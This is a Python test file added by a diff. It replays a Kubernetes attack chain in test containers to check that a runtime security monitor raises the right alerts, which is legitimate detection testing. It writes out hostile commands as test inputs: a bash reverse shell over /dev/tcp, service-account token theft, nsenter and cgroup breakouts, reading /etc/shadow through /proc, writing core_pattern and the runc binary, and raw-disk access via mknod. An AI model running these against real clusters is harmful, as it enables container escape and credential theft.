@@ -1,0 +1,256 @@
+#!/usr/bin/python3
+# SPDX-License-Identifier: Apache-2.0
+"""The attack the monitor is for, step by step in real containers: a call of the kubelet, a command run
+in a pod, the pod's token, a breakout, the node's credentials. Each step raises its own alert, which
+names the container it began in. Ordinary acts raise none.
+"""
+
+import os
+import pathlib
+import shutil
+import socket
+import subprocess
+import tempfile
+import unittest
+
+from harness import Container, Daemon, Follower, Listener, wait_until
+
+KUBELET = "Kubelet API called from a container"
+SHELL = "Reverse shell"
+TOKEN = "Service account token read by a visitor"
+API = "Kubernetes API called by a visitor"
+FOREIGN = "Container opens a file of another mount namespace"
+FOREIGN_EXEC = "Container executes a file of another mount namespace"
+HOOK = "Container writes where the node's kernel takes a program from"
+HOOK_TRIED = "Container tries to write where the node's kernel takes a program from"
+DISK = "Container opens a raw disk or the node's memory"
+SOCKET = "Container connects to the container runtime"
+RUNTIME = "Container opens the runtime's binary for writing"
+NAMESPACES = "Container enters other namespaces"
+NAMESPACES_TRIED = "Container tries to enter other namespaces"
+MOUNTED_CREDENTIALS = "Container opens the node's credentials"
+ESCAPED = "Escaped process opens the node's credentials"
+ON_NODE = "Node's credentials read by an unexpected program"
+
+TOKEN_DIRECTORY = "/var/run/secrets/kubernetes.io/serviceaccount"
+API_SERVER = """
+- list: api_server_addresses
+  items: [127.0.0.1]
+  override: {{items: append}}
+- list: api_server_ports
+  items: [{port}]
+  override: {{items: append}}
+"""
+
+
+class Scenario(unittest.TestCase):
+    maxDiff = None
+
+    @classmethod
+    def setUpClass(cls):
+        cls.directory = pathlib.Path(tempfile.mkdtemp(prefix="nezuban-scenario-"))
+        cls.addClassCleanup(shutil.rmtree, cls.directory)
+        cls.api_server = Listener()
+        cls.addClassCleanup(cls.api_server.close)
+        own = cls.directory / "own.yaml"
+        own.write_text(API_SERVER.format(port=cls.api_server.port))
+        cls.daemon = Daemon("--rules", own)
+        cls.addClassCleanup(cls.daemon.remove)
+        cls.watch = Follower.watch(cls.daemon)
+        cls.addClassCleanup(cls.watch.stop)
+        wait_until(lambda: cls.daemon.status()["subscribers"] == 1, "the subscriber")
+        # Something of the node whose namespaces can be entered.
+        cls.service = subprocess.Popen(["sleep", "3600"])
+        cls.addClassCleanup(cls.service.wait)
+        cls.addClassCleanup(cls.service.kill)
+
+    def container(self, *command, **options):
+        container = Container(*command, **options)
+        self.addCleanup(container.remove)
+        return container.start()
+
+    def expect(self, rule, container, where=None, **fields):
+        """The alert of `rule` whose origin is `container`; `where` is the container it is in, or "host"."""
+        wanted = {name.replace("_", "."): value for name, value in fields.items()}
+
+        def matches(alert):
+            values = alert["output_fields"]
+            return (alert["rule"] == rule and alert["origin"] == container.id
+                    and (where is None or alert["container_id"] == where)
+                    and all(values.get(name) == value for name, value in wanted.items()))
+
+        found = self.watch.wait_for(matches, f"{rule} of {container.id} with {wanted}")[0]
+        self.assertEqual(found["uncertain"], [])
+        return found
+
+    def pod(self):
+        """A container with a service account's token where a pod has it."""
+        secrets = self.directory / "token-volume"
+        version = secrets / "..2026_11_22"
+        version.mkdir(parents=True)
+        self.addCleanup(shutil.rmtree, secrets)
+        (version / "token").write_text("not-a-token\n")
+        (secrets / "..data").symlink_to(version.name)
+        (secrets / "token").symlink_to("..data/token")
+        return self.container("/bin/sleep", "3600", mounts={TOKEN_DIRECTORY: secrets})
+
+    def is_running(self, container):
+        return container.exec("/bin/true").returncode == 0
+
+    def run_privileged(self, script, **options):
+        container = self.container("/usr/bin/bash", "-c", script + "\necho all-done", privileged=True,
+                                   host_pid=True, **options)
+        code, printed = container.finish()
+        self.assertEqual((code, printed.splitlines()[-1:]), (0, ["all-done"]), printed)
+        return container
+
+    def database(self):
+        """A file with credentials where a database of the node keeps its own."""
+        base = pathlib.Path("/var/lib/postgresql")
+        made = not base.exists()
+        base.mkdir(exist_ok=True)
+        directory = pathlib.Path(tempfile.mkdtemp(prefix="nezuban-", dir=base))
+        self.addCleanup(shutil.rmtree, base if made else directory)
+        file = directory / "pg_authid"
+        file.write_text("postgres SCRAM-SHA-256\n")
+        return file
+
+    @staticmethod
+    def cgroup2_mount():
+        for line in pathlib.Path("/proc/self/mounts").read_text().splitlines():
+            _, where, kind, *_ = line.split()
+            if kind == "cgroup2":
+                return where
+        raise AssertionError("no cgroup2 is mounted")
+
+    # The story
+
+    def test_the_whole_attack_in_order(self):
+        kubelet = Listener(10250)
+        self.addCleanup(kubelet.close)
+        pod = self.pod()
+        wait_until(lambda: self.is_running(pod), "the pod")
+
+        # 1. From a pod of his own the attacker calls the kubelet, which runs a command in another pod.
+        foothold = self.container("/usr/bin/bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/10250")
+        kubelet.accept()[0].close()
+        steps = [self.expect(KUBELET, foothold, foothold.id)]
+
+        # 2. The command is a reverse shell; 3. in it the token is read and used.
+        attacker = Listener()
+        self.addCleanup(attacker.close)
+        session = subprocess.Popen(
+            ["runc", "--root", pod.directory / "state", "exec", pod.id, "/usr/bin/bash", "-c",
+             f"bash -i >& /dev/tcp/127.0.0.1/{attacker.port} 0>&1"],
+            stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+        self.addCleanup(session.wait)
+        heard, port = attacker.converse(
+            f"cat {TOKEN_DIRECTORY}/token; exec 3<>/dev/tcp/127.0.0.1/{self.api_server.port}")
+        self.api_server.accept()[0].close()
+        self.assertIn("not-a-token", heard)
+        shell = f"127.0.0.1:{port}->127.0.0.1:{attacker.port}"
+        steps.append(self.expect(SHELL, pod, pod.id, evt_type="execve", proc_stdin_name=shell))
+        steps.append(self.expect(TOKEN, pod, pod.id, proc_stdin_name=shell))
+        self.assertTrue(steps[-1]["output_fields"]["fd.name"].endswith("/..2026_11_22/token"))
+        steps.append(self.expect(API, pod, pod.id))
+
+        # 4. The privileged workload made with it enters the node, and 5. reads what is there: first
+        # still in its container's cgroup, then in none.
+        secret = self.database()
+        breakout = self.run_privileged(
+            f"exec nsenter -t {self.service.pid} -m -C sh -c '"
+            f"cat {secret}; echo $$ >{self.cgroup2_mount()}/cgroup.procs; cat {secret}; echo all-done'")
+        steps.append(self.expect(NAMESPACES, breakout, breakout.id))
+        steps.append(self.expect(ESCAPED, breakout, breakout.id, fd_name=str(secret)))
+        steps.append(self.expect(ESCAPED, breakout, "host", fd_name=str(secret)))
+        times = [step["output_fields"]["evt.time"] for step in steps]
+        self.assertEqual(times, sorted(times))
+
+    # Other ways out
+
+    def test_files_of_a_process_of_the_node(self):
+        root = f"/proc/{self.service.pid}/root"
+        container = self.run_privileged(f"read line <{root}/etc/hostname; {root}/bin/true || true; cat {root}/etc/shadow >/dev/null")
+        self.expect(FOREIGN, container, container.id, fd_name="/etc/hostname")
+        self.expect(FOREIGN_EXEC, container, container.id)
+        self.expect(MOUNTED_CREDENTIALS, container, container.id, fd_name="/etc/shadow")
+
+    def test_files_the_kernel_takes_programs_from(self):
+        container = self.run_privileged("exec 3<>/proc/sys/kernel/core_pattern")
+        self.expect(HOOK, container, container.id, fd_name="/proc/sys/kernel/core_pattern")
+        refused = self.container("/usr/bin/bash", "-c", "exec 3<>/proc/sys/kernel/core_pattern")
+        refused.finish()
+        self.expect(HOOK_TRIED, refused, refused.id)
+
+    def test_a_disk_under_another_name(self):
+        image = self.directory / "disk.img"
+        image.write_bytes(bytes(1 << 20))
+        device = subprocess.run(["losetup", "--find", "--show", image], check=True, capture_output=True,
+                                text=True).stdout.strip()
+        self.addCleanup(subprocess.run, ["losetup", "-d", device])
+        number = os.stat(device).st_rdev
+        container = self.run_privileged(
+            f"busybox mknod /tmp/notes.txt b {os.major(number)} {os.minor(number)} && busybox head -c 1 /tmp/notes.txt >/dev/null")
+        self.expect(DISK, container, container.id, fd_name="/tmp/notes.txt")
+
+    def test_the_runtime(self):
+        served = self.directory / "containerd.sock"
+        with socket.socket(socket.AF_UNIX) as runtime:
+            runtime.bind(str(served))
+            runtime.listen()
+            connect = f"import socket; socket.socket(socket.AF_UNIX).connect(\"{served}\")"
+            container = self.run_privileged(f"nsenter -t {self.service.pid} -m /usr/bin/python3 -c '{connect}'")
+        self.expect(SOCKET, container, container.id, fd_name=str(served))
+        binaries = self.directory / "node"
+        binaries.mkdir()
+        (binaries / "runc").write_text("#!/bin/sh\n")
+        container = self.container("/usr/bin/bash", "-c", "exec 3>>/node/runc", mounts={"/node": binaries})
+        container.finish()
+        self.expect(RUNTIME, container, container.id, fd_name="/node/runc")
+
+    def test_credentials_on_a_mount_of_the_nodes_disk(self):
+        node = self.directory / "disk"
+        (node / "etc").mkdir(parents=True)
+        (node / "etc" / "shadow").write_text("root:*:::::::\n")
+        container = self.container("/bin/cat", "/host/etc/shadow", mounts={"/host": node})
+        container.finish()
+        self.expect(MOUNTED_CREDENTIALS, container, container.id, fd_name="/host/etc/shadow")
+
+    # The node and ordinary acts
+
+    def test_credentials_on_the_node(self):
+        secret = self.database()
+        reader = subprocess.Popen(["cat", secret], stdout=subprocess.DEVNULL)
+        self.assertEqual(reader.wait(), 0)
+        found = self.watch.wait_for(
+            lambda a: a["rule"] == ON_NODE and a["pid"] == reader.pid, "cat of a database's file")[0]
+        self.assertEqual((found["container_id"], found["origin"]), ("host", "host"))
+
+    def test_ordinary_acts_give_no_alert(self):
+        begun = len(self.watch.alerts)
+        pod = self.pod()
+        wait_until(lambda: self.is_running(pod), "the pod")
+        pod.exec("/usr/bin/bash", "-c", f"read t <{TOKEN_DIRECTORY}/token")
+        pod.exec("/bin/sh", "-c", "cat /proc/self/status /proc/1/cmdline /dev/null >/dev/null; ls -l /proc/1 /sys/kernel")
+        served = Listener()
+        self.addCleanup(served.close)
+        work = self.container("/bin/sh", "-c", "cat /proc/sys/kernel/core_pattern; echo x >/tmp/release_notes; "
+                              f"nc -w 1 127.0.0.1 {served.port} </dev/null; ls /mnt; id; echo y >/dev/stdout")
+        served.accept()[0].close()
+        work.finish()
+        for command in (["passwd", "-S", "root"], ["tar", "-cf", "/dev/null", "/etc/shadow", "/etc/passwd"],
+                        ["su", "nobody", "-s", "/bin/true"], ["nsenter", "-t", str(self.service.pid), "-m", "true"],
+                        ["ls", "-l", "/var/lib"], ["getent", "passwd", "root"]):
+            subprocess.run(command, check=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
+                           stderr=subprocess.DEVNULL)
+        marker = self.run_privileged("exec 3<>/proc/sys/kernel/core_pattern")
+        self.expect(HOOK, marker, marker.id)
+        ours = {pod.id, work.id}
+        wrong = [a["output"] for a in self.watch.alerts[begun:]
+                 if a["container_id"] in ours or a["origin"] in ours
+                 or (a["origin"] == "host" and os.getpid() in [b["pid"] for b in a["ancestors"]])]
+        self.assertEqual(wrong, [])
+
+
+if __name__ == "__main__":
+    unittest.main(verbosity=2)
